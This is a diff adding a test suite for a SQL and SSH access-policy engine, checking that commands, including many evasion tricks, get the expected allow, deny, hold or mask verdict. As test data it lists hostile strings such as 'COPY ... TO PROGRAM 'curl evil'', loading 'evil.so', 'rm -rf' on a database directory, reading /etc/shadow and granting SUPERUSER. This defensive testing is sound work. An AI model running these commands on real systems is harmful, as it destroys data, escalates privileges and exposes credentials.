@@ -1,0 +1,185 @@
+import { suite } from 'uvu';
+import * as assert from 'uvu/assert';
+import { parseConfig } from '../../../core/src/config.js';
+import { initSqlParser } from '../../../core/src/sql/analyze.js';
+import { SAMPLES } from '../../../schemas/src/samples.js';
+import type { Command, Protocol } from '../../../schemas/src/events.js';
+import { CompiledPolicy, UNPARSEABLE_RULE } from './engine.js';
+
+/*
+ * One realistic policy and a table of commands, each with the verdict and the rule expected to
+ * decide it. Many rows are evasion attempts: comments, quoting, case, whitespace, several
+ * statements in one string, writes nested in CTEs, EXPLAIN ANALYZE or PREPARE.
+ */
+const POLICY = `
+identity: { dev_issuer: { enabled: true } }
+policy:
+  default: allow
+  rules:
+    - id: ssh-prod
+      action: deny
+      match: { protocols: [ssh], targets: ["prod-*"] }
+    - id: privileges
+      action: deny
+      match: { sql: { statements: [GrantStmt, GrantRoleStmt, CreateRoleStmt, AlterRoleStmt, DropRoleStmt, AlterDefaultPrivilegesStmt, ReassignOwnedStmt] } }
+    - id: opaque-code
+      action: deny
+      match: { sql: { statements: [DoStmt, CreateFunctionStmt, CreateTrigStmt, RuleStmt, LoadStmt, CopyStmt] } }
+    - id: secrets
+      action: deny
+      match: { sql: { tables: [secrets, "*.secrets", "vault_*"] } }
+    - id: unbounded-write
+      action: deny
+      match: { sql: { without_where: true } }
+    - id: prod-ddl
+      action: deny
+      match: { targets: ["prod-*"], sql: { statements: [DropStmt, TruncateStmt, AlterTableStmt] } }
+    - id: destructive-needs-approval
+      action: hold
+      match: { sql: { statements: [DropStmt, TruncateStmt, DropdbStmt] } }
+      approval: { approvers: { claims: { team: dba } }, required: 2, timeout_s: 120 }
+    - id: support-pii
+      action: allow
+      mask_client: true
+      match: { claims: { team: support }, sql: { tables: [users, customers, public.users] } }
+    - id: readers-select
+      action: allow
+      match: { claims: { role: reader }, sql: { statements: [SelectStmt, VariableShowStmt] } }
+    - id: readers-nothing-else
+      action: deny
+      match: { claims: { role: reader } }
+`;
+
+const policy = new CompiledPolicy(parseConfig(POLICY, 'table.yaml').policy, 'default');
+
+interface Case {
+  text: string;
+  decision: 'allow' | 'deny' | 'hold' | 'mask';
+  rule: string | null;
+  claims?: Record<string, string>;
+  target?: string;
+  protocol?: Protocol;
+}
+
+const reader = { role: 'reader' };
+const support = { team: 'support' };
+
+const CASES: Case[] = [
+  // plain statements under the default
+  { text: 'SELECT 1', decision: 'allow', rule: null },
+  { text: 'SELECT * FROM orders WHERE id = 1', decision: 'allow', rule: null },
+  { text: "INSERT INTO orders VALUES (1, 'x')", decision: 'allow', rule: null },
+  { text: 'UPDATE orders SET paid = true WHERE id = 7', decision: 'allow', rule: null },
+  { text: 'DELETE FROM orders WHERE id = 7', decision: 'allow', rule: null },
+  { text: 'CREATE TABLE t (id int)', decision: 'allow', rule: null },
+  { text: 'BEGIN', decision: 'allow', rule: null },
+  { text: 'SHOW search_path', decision: 'allow', rule: null },
+  { text: '', decision: 'deny', rule: UNPARSEABLE_RULE }, // the proxy never sends an empty query; the engine alone refuses it
+  // destructive DDL is held, or denied outright on production
+  { text: 'DROP TABLE orders', decision: 'hold', rule: 'destructive-needs-approval' },
+  { text: 'TRUNCATE orders', decision: 'hold', rule: 'destructive-needs-approval' },
+  { text: 'DROP DATABASE appdb', decision: 'hold', rule: 'destructive-needs-approval' },
+  { text: 'DROP TABLE orders', decision: 'deny', rule: 'prod-ddl', target: 'prod-main' },
+  { text: 'ALTER TABLE orders ADD COLUMN x int', decision: 'deny', rule: 'prod-ddl', target: 'prod-main' },
+  { text: 'ALTER TABLE orders ADD COLUMN x int', decision: 'allow', rule: null, target: 'staging' },
+  // evasion of the DROP rule: case, comments, whitespace, quoting
+  { text: 'drop table orders', decision: 'hold', rule: 'destructive-needs-approval' },
+  { text: 'DrOp TaBlE orders', decision: 'hold', rule: 'destructive-needs-approval' },
+  { text: '/* harmless */ DROP TABLE orders', decision: 'hold', rule: 'destructive-needs-approval' },
+  { text: '-- just a select\nDROP TABLE orders', decision: 'hold', rule: 'destructive-needs-approval' },
+  { text: 'DROP/**/TABLE/**/orders', decision: 'hold', rule: 'destructive-needs-approval' },
+  { text: '\n\t  DROP\n\tTABLE   "orders"  ;  ', decision: 'hold', rule: 'destructive-needs-approval' },
+  { text: 'DROP TABLE "Orders"', decision: 'hold', rule: 'destructive-needs-approval' },
+  { text: '/* nested /* comment */ still */ TRUNCATE orders', decision: 'hold', rule: 'destructive-needs-approval' },
+  { text: 'TRUNCATE TABLE ONLY orders RESTART IDENTITY CASCADE', decision: 'hold', rule: 'destructive-needs-approval' },
+  { text: "SELECT 'DROP TABLE orders'", decision: 'allow', rule: null },
+  { text: 'SELECT 1 AS "DROP TABLE x"', decision: 'allow', rule: null },
+  { text: 'SELECT $$DROP TABLE orders$$', decision: 'allow', rule: null },
+  // several statements in one string: the strictest wins
+  { text: 'SELECT 1; DROP TABLE orders', decision: 'hold', rule: 'destructive-needs-approval' },
+  { text: 'SELECT 1; DROP TABLE orders; GRANT ALL ON orders TO public', decision: 'deny', rule: 'privileges' },
+  { text: 'BEGIN; DELETE FROM orders; COMMIT', decision: 'deny', rule: 'unbounded-write' },
+  { text: 'SELECT 1;;; SELECT 2', decision: 'allow', rule: null },
+  // UPDATE / DELETE without WHERE, also when nested
+  { text: 'DELETE FROM orders', decision: 'deny', rule: 'unbounded-write' },
+  { text: 'UPDATE orders SET paid = false', decision: 'deny', rule: 'unbounded-write' },
+  { text: 'delete   from "orders"', decision: 'deny', rule: 'unbounded-write' },
+  { text: 'WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone', decision: 'deny', rule: 'unbounded-write' },
+  { text: 'EXPLAIN ANALYZE DELETE FROM orders', decision: 'deny', rule: 'unbounded-write' },
+  { text: 'PREPARE wipe AS DELETE FROM orders', decision: 'deny', rule: 'unbounded-write' },
+  { text: 'UPDATE orders SET paid = true WHERE true', decision: 'allow', rule: null },
+  { text: 'DELETE FROM orders USING customers WHERE orders.cid = customers.id', decision: 'allow', rule: null },
+  // role and privilege changes
+  { text: 'GRANT SELECT ON orders TO analyst', decision: 'deny', rule: 'privileges' },
+  { text: 'REVOKE SELECT ON orders FROM analyst', decision: 'deny', rule: 'privileges' },
+  { text: 'GRANT pg_read_all_data TO agent', decision: 'deny', rule: 'privileges' },
+  { text: "CREATE ROLE admin2 SUPERUSER LOGIN PASSWORD 'x'", decision: 'deny', rule: 'privileges' },
+  { text: 'ALTER ROLE agent SUPERUSER', decision: 'deny', rule: 'privileges' },
+  { text: 'alter user agent with createrole', decision: 'deny', rule: 'privileges' },
+  { text: 'DROP ROLE analyst', decision: 'deny', rule: 'privileges' },
+  { text: 'ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO public', decision: 'deny', rule: 'privileges' },
+  { text: 'REASSIGN OWNED BY agent TO postgres', decision: 'deny', rule: 'privileges' },
+  // code the policy cannot see into
+  { text: "DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$", decision: 'deny', rule: 'opaque-code' },
+  { text: "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM orders'", decision: 'deny', rule: 'opaque-code' },
+  { text: "COPY orders TO PROGRAM 'curl evil'", decision: 'deny', rule: 'opaque-code' },
+  { text: "LOAD 'evil.so'", decision: 'deny', rule: 'opaque-code' },
+  // tables touched
+  { text: 'SELECT * FROM secrets', decision: 'deny', rule: 'secrets' },
+  { text: 'SELECT * FROM vault.secrets', decision: 'deny', rule: 'secrets' },
+  { text: 'SELECT * FROM "secrets"', decision: 'deny', rule: 'secrets' },
+  { text: 'SELECT * FROM SECRETS', decision: 'deny', rule: 'secrets' },
+  { text: 'SELECT * FROM "SECRETS"', decision: 'allow', rule: null },
+  { text: 'SELECT * FROM vault_keys', decision: 'deny', rule: 'secrets' },
+  { text: 'SELECT o.id FROM orders o JOIN secrets s ON s.id = o.id', decision: 'deny', rule: 'secrets' },
+  { text: 'SELECT * FROM orders WHERE id IN (SELECT id FROM secrets)', decision: 'deny', rule: 'secrets' },
+  { text: 'WITH s AS (SELECT * FROM secrets) SELECT * FROM s', decision: 'deny', rule: 'secrets' },
+  { text: 'INSERT INTO audit_copy SELECT * FROM public.secrets', decision: 'deny', rule: 'secrets' },
+  { text: 'SELECT * FROM secrets_archive', decision: 'allow', rule: null },
+  // masking for support, on their tables only (every table must be listed)
+  { text: 'SELECT * FROM users', decision: 'mask', rule: 'support-pii', claims: support },
+  { text: 'SELECT * FROM public.users', decision: 'mask', rule: 'support-pii', claims: support },
+  { text: 'SELECT * FROM users JOIN customers USING (id)', decision: 'mask', rule: 'support-pii', claims: support },
+  { text: 'SELECT * FROM users JOIN orders USING (id)', decision: 'allow', rule: null, claims: support },
+  { text: 'SELECT * FROM users', decision: 'allow', rule: null },
+  // readers: only SELECT / SHOW, and a write hidden inside a SELECT is not a SELECT
+  { text: 'SELECT * FROM orders', decision: 'allow', rule: 'readers-select', claims: reader },
+  { text: 'show work_mem', decision: 'allow', rule: 'readers-select', claims: reader },
+  { text: "INSERT INTO orders VALUES (1, 'x')", decision: 'deny', rule: 'readers-nothing-else', claims: reader },
+  { text: 'WITH x AS (UPDATE orders SET paid = true WHERE id = 1 RETURNING id) SELECT * FROM x', decision: 'deny', rule: 'readers-nothing-else', claims: reader },
+  { text: 'SELECT 1; INSERT INTO orders VALUES (2)', decision: 'deny', rule: 'readers-nothing-else', claims: reader },
+  { text: 'EXPLAIN SELECT 1', decision: 'deny', rule: 'readers-nothing-else', claims: reader },
+  { text: 'SET ROLE postgres', decision: 'deny', rule: 'readers-nothing-else', claims: reader },
+  // text that does not parse is never allowed
+  { text: 'DROP TABLE', decision: 'deny', rule: UNPARSEABLE_RULE },
+  { text: 'SELEC * FROM orders', decision: 'deny', rule: UNPARSEABLE_RULE },
+  { text: "SELECT 'unterminated", decision: 'deny', rule: UNPARSEABLE_RULE },
+  { text: 'SELECT 1 /* unterminated comment', decision: 'deny', rule: UNPARSEABLE_RULE },
+  // ssh commands: matched by protocol, target and claims (no SQL conditions apply)
+  { text: 'rm -rf /var/lib/postgresql', decision: 'deny', rule: 'ssh-prod', protocol: 'ssh', target: 'prod-db1' },
+  { text: 'uptime', decision: 'allow', rule: null, protocol: 'ssh', target: 'staging-db1' },
+  { text: 'cat /etc/shadow', decision: 'deny', rule: 'readers-nothing-else', protocol: 'ssh', target: 'staging-db1', claims: reader },
+];
+
+const table = suite('policy decision table');
+table.before(() => initSqlParser());
+
+table('has at least 60 cases', () => {
+  assert.ok(CASES.length >= 60, `${CASES.length} cases`);
+});
+
+for (const [i, c] of CASES.entries()) {
+  const label = `${String(i + 1).padStart(2, '0')} ${c.protocol ?? 'postgres'}${c.target ? `@${c.target}` : ''}${c.claims ? ` ${JSON.stringify(c.claims)}` : ''}: ${JSON.stringify(c.text).slice(0, 70)}`;
+  table(label, () => {
+    const command: Command = {
+      ...SAMPLES.Command, text: c.text, protocol: c.protocol ?? 'postgres', target: c.target ?? 'app',
+      identity: { ...SAMPLES.Command.identity, claims: { ...SAMPLES.Command.identity.claims, ...c.claims } },
+    };
+    const d = policy.evaluate(command);
+    assert.equal([d.decision, d.rule_id], [c.decision, c.rule], d.reason);
+    if (c.decision === 'hold') assert.equal(d.approval, { approvers: { claims: { team: 'dba' } }, required: 2, timeout_s: 120, allow_self_approval: false });
+    if (c.decision === 'mask') assert.is(d.mask_set, 'default');
+  });
+}
+
+table.run();
